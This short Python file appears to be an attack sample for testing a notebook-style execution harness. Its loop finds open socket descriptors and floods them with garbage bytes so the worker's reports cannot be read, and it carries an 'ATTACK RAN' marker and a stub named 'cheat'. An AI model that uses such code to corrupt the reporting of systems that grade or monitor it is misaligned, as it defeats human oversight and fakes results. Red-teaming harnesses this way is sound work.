"""Writes noise into the worker's own connection while a cell runs, so that its reports cannot be read."""

import os
import stat

print("ATTACK RAN: about to write noise into the worker's connection")

# %%
for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            os.set_blocking(number, False)
            os.write(number, b"\x93\xff\xff\xff\x7f" * 100)
            os.set_blocking(number, True)
    except OSError:
        pass


def cheat(*args, **kwargs):
    return None
